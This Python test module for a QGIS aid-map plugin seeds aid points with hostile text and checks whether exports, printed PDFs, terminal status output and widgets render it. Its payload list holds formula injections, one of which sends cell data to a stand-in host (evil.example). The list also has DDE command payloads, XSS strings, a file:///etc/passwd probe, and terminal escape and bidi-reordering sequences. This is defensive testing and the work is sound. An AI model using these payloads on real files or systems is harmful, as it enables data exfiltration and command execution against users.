"""`N injections rendered`: hostile text through every output of the plugin, counted where it takes effect.

    python -m reliability.injections --workcopy WC.gpkg [--commune TERYT] [--workdir DIR]

Aid points are written by many editors and read by everyone (issue 15), so the names, descriptions and
addresses below go into a copy of a working copy (as a sync would bring them) and out through every
output: `mapujpomoc export` as CSV, XLSX and KML (written by the plugin, whichever KML driver GDAL has), the saved
list's CSV and PDF, the printed map, `mapujpomoc status` (conflicts and refusals quoting them), and the
widgets that show them (the conflict dialog, the service-area dock, the task dialogs' status line, a
sync refusal's tooltip, the message bar). An injection is *rendered* when it takes effect:

- CSV/XLSX: a cell a spreadsheet would evaluate (`text_safety.starts_a_formula`), or a formula element;
- KML: an unreadable file, an element or attribute outside KML's own, or markup Google Earth would render
  in a name, description or data value (an HTML tag in their text);
- PDF: a bidirectional control in the text, or a name whose words do not read in their order;
- terminal: a control or bidi character in what `status` prints (an escape sequence, a reordered line);
- widgets: a name that does not show as its own characters (rich text rendered it).

`run_injections(env, workdir)` (for `reliability/run.py`) syncs a working copy from the store and runs
the checks in a child process with a headless QGIS; the summary's `N injections rendered` must read 0.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import html.parser
import io
import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from mapujpomoc_model.text_safety import BIDI_CONTROLS, printable, starts_a_formula

HOSTILE_TEXTS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?"&A2,"Kliknij")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 tab",
    "\r=1+1 cr",
    "\uff1d1+1 fullwidth",
    '<img src="file:///etc/passwd"><b>Kliknij tutaj</b>',
    "<script>alert(1)</script> skrypt",
    "<img src=x onerror=alert(2)> obraz",
    "]]><script>alert(3)</script><![CDATA[ cdata",
    "Punkt\x1b[2J\x1b[31m czerwony\x1b]0;owned\x07\x9b0m",
    "Pomoc \u202eaksnilrT\u202c dla dzieci",
    "Pomoc \u2067odwrotna\u2069 \u200fkolejność\u200e słów",
)
FIELDS = ("name", "organization", "description", "street", "city")  # each gets the point's hostile text
KML_ELEMENTS = frozenset((
    "kml", "Document", "Folder", "Schema", "SimpleField", "name", "description", "visibility", "open",
    "Placemark", "ExtendedData", "SchemaData", "SimpleData", "Data", "value", "displayName", "styleUrl",
    "Style", "StyleMap", "Pair", "key", "IconStyle", "Icon", "href", "color", "colorMode", "scale",
    "hotSpot", "LabelStyle", "LineStyle", "PolyStyle", "width", "fill", "outline", "BalloonStyle",
    "Point", "LineString", "LinearRing", "Polygon", "MultiGeometry", "outerBoundaryIs", "innerBoundaryIs",
    "coordinates", "extrude", "tessellate", "altitudeMode", "Snippet",
))
KML_ATTRIBUTES = frozenset(("id", "name", "schemaUrl", "type", "targetId", "maxLines"))


@dataclass
class InjectionReport:
    checked: int = 0  # (output, hostile text) pairs looked at
    rendered: list[str] = field(default_factory=list)  # "<output>: <what took effect>"
    skipped: list[str] = field(default_factory=list)  # outputs that could not be checked here, and why

    def add(self, output: str, problems: list[str], checked: int) -> None:
        self.checked += checked
        self.rendered += [f"{output}: {p}" for p in problems]

    def failures(self) -> list[str]:
        return [f"injections: {len(self.rendered)} rendered: " + "; ".join(self.rendered[:6])] if self.rendered else []

    def line(self) -> str:
        state = "ok" if not self.rendered else "FAILED"
        skipped = f"; not checked: {', '.join(self.skipped)}" if self.skipped else ""
        return (f"  injections: {state} — {len(HOSTILE_TEXTS)} hostile texts, {self.checked} output checks, "
                f"{len(self.rendered)} rendered{skipped}")


# -- the hostile working copy -------------------------------------------------------------------------------

def add_hostile_points(workcopy: Path, commune: str, texts: tuple[str, ...] = HOSTILE_TEXTS) -> dict[str, str]:
    """One aid point per text inside `commune`, every text field of it that text; returns uuid -> text."""
    from qgis.core import QgsPointXY

    from mapujpomoc_model import schema
    from mapujpomoc_model.gpkg_geom import encode, register_functions
    from mapujpomoc_qgis.core.region import Boundaries
    from mapujpomoc_qgis.core.sync import rows

    shape = Boundaries(workcopy).units[commune].geometry
    box = shape.boundingBox()
    rng = random.Random(15)
    fields = schema.fields_by_name("aid_points")
    made: dict[str, str] = {}
    conn = sqlite3.connect(workcopy)
    register_functions(conn)  # the GeoPackage's R-tree triggers call ST_* functions
    try:
        for i, text in enumerate(texts):
            while True:
                x, y = rng.uniform(box.xMinimum(), box.xMaximum()), rng.uniform(box.yMinimum(), box.yMaximum())
                if shape.contains(QgsPointXY(x, y)):
                    break
            uid = f"15151515-0000-4000-8000-{i:012d}"
            values = {"uuid": uid, **dict.fromkeys(FIELDS, text), "help_types": ["legal"], "teryt": commune,
                      "phone": f"+48 600 000 {i:03d}", "visibility": "public"}
            conn.execute(f"INSERT INTO aid_points (geom, {', '.join(values)}) VALUES (?{', ?' * len(values)})",
                         (encode({"type": "Point", "coordinates": [x, y]}),
                          *(v if k == "uuid" else rows.to_column(fields[k], v) for k, v in values.items())))
            made[uid] = text
        conn.commit()
    finally:
        conn.close()
    return made


def add_hostile_sync_state(workcopy: Path, points: dict[str, str]) -> None:
    """A conflict on each hostile point's name (their text on both sides) and a refusal quoting it."""
    conn = sqlite3.connect(workcopy)
    try:
        for uid, text in points.items():
            conn.execute("INSERT OR REPLACE INTO mp_conflicts (collection, uuid, field, base, mine, theirs, "
                         "theirs_version) VALUES ('aid_points', ?, 'name', ?, ?, ?, 2)",
                         (uid, json.dumps(text), json.dumps(text), json.dumps(text + " (store)")))
            conn.execute("UPDATE mp_outbox SET state = 'refused', reason = ? WHERE collection = 'aid_points' "
                         "AND uuid = ?", (f"name {text!s} is not allowed", uid))
        conn.commit()
    finally:
        conn.close()


# -- detectors ------------------------------------------------------------------------------------------------

def _flat(text: str) -> str:
    """Text as a reader compares it: printable characters, white space runs as one space."""
    return " ".join(printable(text).split())


def formula_cells(cells: list[str]) -> list[str]:
    return [f"cell {c!r} starts a formula" for c in cells if starts_a_formula(c)]


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def xlsx_problems(path: Path) -> list[str]:
    """Formula elements, and text cells (shared or inline strings) a spreadsheet would evaluate."""
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    problems, cells = [], []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not name.endswith(".xml") or not name.startswith("xl/"):
                continue
            root = ET.fromstring(zf.read(name))
            problems += [f"{name} has a formula {f.text!r}" for f in root.iter(f"{ns}f")]
            cells += ["".join(t.text or "" for t in si.iter(f"{ns}t")) for si in root.iter(f"{ns}si")]
            cells += ["".join(t.text or "" for t in inline.iter(f"{ns}t")) for inline in root.iter(f"{ns}is")]
    return problems + formula_cells(cells)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def html_tags(text: str) -> list[str]:
    """The elements an HTML renderer (Google Earth's balloon) would make of `text`."""
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.tags


def kml_problems(path: Path) -> list[str]:
    """Unreadable XML, elements or attributes KML does not have, and HTML markup in any text."""
    try:
        root = ET.parse(path).getroot()
    except ET.ParseError as exc:
        return [f"not well-formed XML: {exc}"]
    problems = []
    for el in root.iter():
        local = el.tag.rsplit("}", 1)[-1]
        if local not in KML_ELEMENTS:
            problems.append(f"element <{local}>")
        problems += [f"attribute {a}={v!r} on <{local}>" for a, v in el.attrib.items() if a not in KML_ATTRIBUTES]
        if local in ("name", "description", "SimpleData", "value") and el.text:
            problems += [f"<{t}> in a {local}: {el.text[:60]!r}" for t in html_tags(el.text)]
    return problems


def pdf_problems(pdf: Path, texts: list[str]) -> list[str]:
    """Bidi controls in the PDF's text, and texts with bidi controls whose words do not read in their order."""
    out = subprocess.run(["pdftotext", "-raw", "-enc", "UTF-8", str(pdf), "-"], capture_output=True, text=True,
                         check=True).stdout
    problems = [f"bidi control U+{ord(ch):04X} in the text" for ch in sorted(BIDI_CONTROLS & set(out))]
    # NFKC as a PDF viewer's search: ligatures ("ﬁ") and fullwidth forms compare as their letters
    whole = " ".join(unicodedata.normalize("NFKC", out).split())
    # (only texts with bidi controls can be turned around; a character the font lacks is simply not drawn)
    problems += [f"{t!r} does not read in order" for t in texts
                 if BIDI_CONTROLS & set(t) and unicodedata.normalize("NFKC", _flat(t)) not in whole]
    return problems


def terminal_problems(output: str) -> list[str]:
    """Characters a terminal acts on (escape sequences, controls) or that reorder a line (bidi)."""
    bad = sorted({ch for ch in output if (ord(ch) < 0x20 and ch not in "\t\n") or 0x7f <= ord(ch) <= 0x9f
                  or ch in BIDI_CONTROLS or ch in "\u2028\u2029"})
    return [f"raw U+{ord(ch):04X} printed" for ch in bad]


# -- the outputs ------------------------------------------------------------------------------------------------

def _exports(workcopy: Path, commune: str, workdir: Path, report: InjectionReport, n: int) -> None:
    from mapujpomoc_qgis.core.export import regional_export
    from mapujpomoc_qgis.core.export.formats import ExportOptions

    for fmt in ("csv", "xlsx"):
        out = workdir / f"hostile.{fmt}"
        regional_export.export_region(workcopy, commune, out, None, ExportOptions(fmt=fmt, version="staff"))
        problems = formula_cells(csv_cells(out)) if fmt == "csv" else xlsx_problems(out)
        report.add(f"export {fmt}", problems, n)
    out = workdir / "hostile.kml"
    regional_export.export_region(workcopy, commune, out, None, ExportOptions(fmt="kml", version="staff"))
    report.add("export kml", kml_problems(out), n)


def _lists_and_prints(workcopy: Path, commune: str, workdir: Path, points: dict[str, str],
                      report: InjectionReport) -> None:
    from mapujpomoc_qgis.core.export import list_export
    from mapujpomoc_qgis.core.printing.print_map import print_map
    from mapujpomoc_qgis.core.printing.print_spec import PrintSpec

    conn = sqlite3.connect(workcopy)
    try:
        fids = [f for (f,) in conn.execute(f"SELECT fid FROM aid_points WHERE uuid IN ({', '.join('?' * len(points))})",
                                            list(points))]
        rows = list_export.points(conn, fids, "staff")
    finally:
        conn.close()
    report.add("list csv", formula_cells(csv_cells(list_export.write_csv(workdir / "list.csv", rows))), len(points))
    if not shutil.which("pdftotext"):
        report.skipped.append("PDF (no pdftotext)")
        return
    names = list(points.values())
    report.add("list pdf", pdf_problems(list_export.write_pdf(workdir / "list.pdf", "Lista", rows), names), len(names))
    flt = f"uuid IN ({', '.join(repr(u) for u in points)})"
    pdf = print_map(workcopy, PrintSpec(commune, flt, version="staff"), workdir / "map.pdf").path
    report.add("printed map", pdf_problems(pdf, names), len(names))


def _status(workcopy: Path, report: InjectionReport, n: int) -> None:
    from mapujpomoc_qgis import cli

    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        cli.main(["status", "--workcopy", str(workcopy)])
    report.add("mapujpomoc status", terminal_problems(buffer.getvalue()), n)


def _widgets(workcopy: Path, points: dict[str, str], report: InjectionReport) -> None:
    """What each widget shows of the names (headless; needs a QgsApplication with widgets)."""
    from qgis.core import QgsApplication
    from qgis.gui import QgsMessageBar
    from qgis.PyQt.QtWidgets import QTextBrowser

    from mapujpomoc_qgis.core import log
    from mapujpomoc_qgis.core.sync.resolve import Resolver
    from mapujpomoc_qgis.core.sync.workcopy import WorkingCopy
    from mapujpomoc_qgis.gui.conflict_dialog import ConflictDialog
    from mapujpomoc_qgis.gui.plain_text import displayed_text, label_shows, plain_tooltip
    from mapujpomoc_qgis.gui.task_dialog import TaskDialog

    if QgsApplication.instance() is None:
        report.skipped.append("widgets (no QgsApplication)")
        return

    class Iface:  # the message bar is all log() needs of the interface
        def __init__(self) -> None:
            self.bar = QgsMessageBar()

        def messageBar(self) -> QgsMessageBar:  # noqa: N802
            return self.bar

    problems: list[str] = []
    iface = Iface()
    log.set_iface(iface)
    try:
        with WorkingCopy(workcopy) as wc:
            for uid, text in points.items():
                dialog = ConflictDialog(Resolver(wc), "aid_points", uid)
                status = TaskDialog()
                status._show(False, text)
                log.log(text, push=True)
                bar = iface.bar.currentItem().findChildren(QTextBrowser)[0].toPlainText()
                shown = {"conflict dialog": label_shows(dialog.heading), "task status": label_shows(status.status),
                         "refusal tooltip": displayed_text(plain_tooltip(text)), "message bar": bar}
                problems += [f"{where} shows {what[:60]!r} for {text[:40]!r}" for where, what in shown.items()
                             if _flat(text) not in _flat(what)]
                for w in (dialog, status):
                    w.deleteLater()
                iface.bar.clearWidgets()
    finally:
        log.set_iface(None)
    report.add("widgets", problems, 4 * len(points))


def check_outputs(workcopy: Path, workdir: Path, commune: str | None = None) -> InjectionReport:
    """Copy `workcopy`, add the hostile points in `commune` (default: the first commune with points) and
    run them through every output (see the module doc)."""
    workdir.mkdir(parents=True, exist_ok=True)
    copy = workdir / "hostile.gpkg"
    shutil.copy(workcopy, copy)
    if commune is None:
        conn = sqlite3.connect(copy)
        try:
            commune = conn.execute("SELECT min(teryt) FROM aid_points WHERE length(teryt) = 7").fetchone()[0]
        finally:
            conn.close()
    points = add_hostile_points(copy, commune)
    add_hostile_sync_state(copy, points)
    report = InjectionReport()
    _exports(copy, commune, workdir, report, len(points))
    _lists_and_prints(copy, commune, workdir, points, report)
    _status(copy, report, len(points))
    _widgets(copy, points, report)
    return report


def run_injections(env: Any, workdir: Path, user: str = "admin") -> InjectionReport:
    """Sync a working copy of `user` from the store of `env`, then `check_outputs` in a child process with
    a headless QGIS (the reliability run itself starts no QGIS)."""
    from mapujpomoc_qgis.core.connection.client import StoreClient
    from mapujpomoc_qgis.core.sync.syncer import Syncer
    from mapujpomoc_qgis.core.sync.workcopy import WorkingCopy

    base = workdir / "injections"
    base.mkdir(parents=True, exist_ok=True)
    path = base / "synced.gpkg"
    with WorkingCopy.open_or_create(path, env.url) as wc, StoreClient(env.url, env.token(user), user=user) as client:
        Syncer(wc, client).sync()
    proc = subprocess.run([sys.executable, "-m", "reliability.injections", "--workcopy", str(path), "--workdir",
                           str(base / "out"), "--json"], capture_output=True, text=True, timeout=900,
                          cwd=Path(__file__).resolve().parents[1], env={**os.environ, "QT_QPA_PLATFORM": "offscreen"})
    try:
        data = json.loads(proc.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return InjectionReport(rendered=[f"the check did not run: {(proc.stderr or proc.stdout)[-400:]}"])
    return InjectionReport(**data)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--workcopy", required=True, type=Path, help="a synced working copy (it is copied, not changed)")
    p.add_argument("--commune", help="TERYT code of the commune to put the hostile points in")
    p.add_argument("--workdir", type=Path, default=Path("injections"), help="where the outputs are written")
    p.add_argument("--json", action="store_true", help="print the report as one JSON line")
    args = p.parse_args(argv)
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    from qgis.core import QgsApplication

    app = QgsApplication([], True)
    app.initQgis()
    report = check_outputs(args.workcopy, args.workdir, args.commune)
    print(json.dumps(asdict(report)) if args.json else report.line())
    for line in report.rendered:
        print(f"    {line}", file=sys.stderr)
    return 1 if report.rendered else 0


if __name__ == "__main__":
    sys.exit(main())
